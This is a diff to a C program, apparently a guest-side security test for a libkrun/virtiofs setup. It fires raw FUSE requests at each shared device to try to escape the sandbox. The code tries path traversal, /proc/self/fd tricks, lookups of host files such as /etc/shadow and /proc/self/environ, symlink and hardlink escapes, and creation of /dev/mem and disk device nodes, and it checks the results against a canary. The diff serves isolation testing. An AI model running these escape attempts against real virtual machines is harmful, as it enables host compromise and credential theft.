@@ -195,7 +195,7 @@ static void attack(const char *canary)
 {
     static char name[2048], directory[1024];
     struct fuse_init_in init = { .major = 7, .minor = 31, .max_readahead = 65536 };
-    uint64_t node = 1, inside;
+    uint64_t top, node, inside;
     int error = ask(FUSE_INIT, 0, &init, sizeof init, NULL, NULL);
     if (error != 0) {
         printf("FAILED init: %d\n", error);
@@ -204,10 +204,16 @@ static void attack(const char *canary)
     strcpy(directory, canary);
     *strrchr(directory, '/') = 0;
 
+    /* A share of volumes has them in directories that are numbered from 0. */
+    top = lookup(1, "0");
+    if (top == 0)
+        top = 1;
+    node = top;
+
     /* These requests must succeed, or the failure of the others proves nothing. */
-    show("inside", lookup(1, "inside"));
-    show("inside, by an odd name", lookup(1, ".//bin/../inside"));
-    make(1, "made-by-hand");
+    show("inside", lookup(top, "inside"));
+    show("inside, by an odd name", lookup(top, ".//bin/../inside"));
+    make(top, "made-by-hand");
 
     /* Up, step by step, and then down again. */
     for (int step = 0; step < 12; step++) {
@@ -224,47 +230,47 @@ static void attack(const char *canary)
         "../../../../../../../../../../../..", "bin/../../../../../../../../../..", "/proc/self/task/1/root" };
     for (size_t i = 0; i < sizeof before / sizeof *before; i++) {
         snprintf(name, sizeof name, "%s%s", before[i], canary);
-        show(name, lookup(1, name));
+        show(name, lookup(top, name));
         snprintf(name, sizeof name, "%s%s/escaped", before[i], directory);
-        make(1, name);
+        make(top, name);
     }
     for (int fd = 0; fd < 64; fd++) {
         snprintf(name, sizeof name, "/proc/self/fd/%d/../../../../../../../..%s", fd, canary);
-        show(name, lookup(1, name));
+        show(name, lookup(top, name));
         snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
-        show(name, lookup(1, name));
+        show(name, lookup(top, name));
     }
     static const char *const files[] = { "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/maps", "/proc/version",
         "/proc/1/cmdline", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/dev/sda",
         "/dev/vda", "/run/utmp", "/tmp", "/root/.bashrc" };
     for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
-        show(files[i], lookup(1, files[i]));
-        make(1, files[i]);
+        show(files[i], lookup(top, files[i]));
+        make(top, files[i]);
     }
     /* By links. */
-    ask(FUSE_SYMLINK, 1, "", 0, "link", canary);
-    show("symlink", lookup(1, "link"));
-    ask(FUSE_SYMLINK, 1, "", 0, "link-to-directory", directory);
+    ask(FUSE_SYMLINK, top, "", 0, "link", canary);
+    show("symlink", lookup(top, "link"));
+    ask(FUSE_SYMLINK, top, "", 0, "link-to-directory", directory);
     snprintf(name, sizeof name, "link-to-directory%s", strrchr(canary, '/'));
-    show("through a symlink", lookup(1, name));
-    make(1, "link-to-directory/escaped");
-    inside = lookup(1, "inside");
+    show("through a symlink", lookup(top, name));
+    make(top, "link-to-directory/escaped");
+    inside = lookup(top, "inside");
     struct fuse_link_in link = { .oldnodeid = inside };
-    struct fuse_rename_in rename = { .newdir = 1 };
+    struct fuse_rename_in rename = { .newdir = top };
     snprintf(name, sizeof name, "%s/escaped", directory);
-    ask(FUSE_LINK, 1, &link, sizeof link, name, NULL);
-    ask(FUSE_RENAME, 1, &rename, sizeof rename, "inside", name);
-    ask(FUSE_RENAME, 1, &rename, sizeof rename, canary, "stolen");
-    ask(FUSE_UNLINK, 1, "", 0, canary, NULL);
-    show("stolen", lookup(1, "stolen"));
+    ask(FUSE_LINK, top, &link, sizeof link, name, NULL);
+    ask(FUSE_RENAME, top, &rename, sizeof rename, "inside", name);
+    ask(FUSE_RENAME, top, &rename, sizeof rename, canary, "stolen");
+    ask(FUSE_UNLINK, top, "", 0, canary, NULL);
+    show("stolen", lookup(top, "stolen"));
     /* By device nodes: the kernel's memory, its log, the first disks. A FIFO must not block the server. */
     static const struct { const char *name; int type, major, minor; } nodes[] = { { "mem", S_IFCHR, 1, 1 }, { "kmsg", S_IFCHR, 1, 11 },
         { "zero", S_IFCHR, 1, 5 }, { "vda", S_IFBLK, 254, 0 }, { "sda", S_IFBLK, 8, 0 }, { "nvme", S_IFBLK, 259, 0 }, { "fifo", S_IFIFO, 0, 0 } };
     for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
         struct fuse_mknod_in mknod = { .mode = nodes[i].type | 0666, .rdev = makedev(nodes[i].major, nodes[i].minor) };
-        ask(FUSE_MKNOD, 1, &mknod, sizeof mknod, nodes[i].name, NULL);
+        ask(FUSE_MKNOD, top, &mknod, sizeof mknod, nodes[i].name, NULL);
         snprintf(name, sizeof name, "device node %s", nodes[i].name);
-        show(name, lookup(1, nodes[i].name));
+        show(name, lookup(top, nodes[i].name));
     }
     printf("attempts: %d, answers: %d, silent: %d\n", attempts, answers, silent);
 }
@@ -284,13 +290,17 @@ int main(void)
     pagemap = open("/proc/self/pagemap", O_RDONLY);
     if (memory < 0 || pagemap < 0)
         fail("open");
-    if (!take("rootfs"))
-        fail("rootfs is not there");
-    attack(canary);
-    /* An unconfined libkrun has the first root as a share. */
-    if (!take("volumes") && !take("/dev/root"))
-        fail("volumes are not there");
-    attack(canary);
+    /* A shared root, volumes of the host, and the first root of an unconfined libkrun. */
+    static const char *const tags[] = { "rootfs", "volumes", "/dev/root" };
+    int devices = 0;
+    for (size_t i = 0; i < sizeof tags / sizeof *tags; i++) {
+        if (take(tags[i])) {
+            attack(canary);
+            devices++;
+        }
+    }
+    if (devices == 0)
+        fail("no virtiofs device is there");
     printf("done\n");
     fflush(stdout);
     reboot(RB_AUTOBOOT);
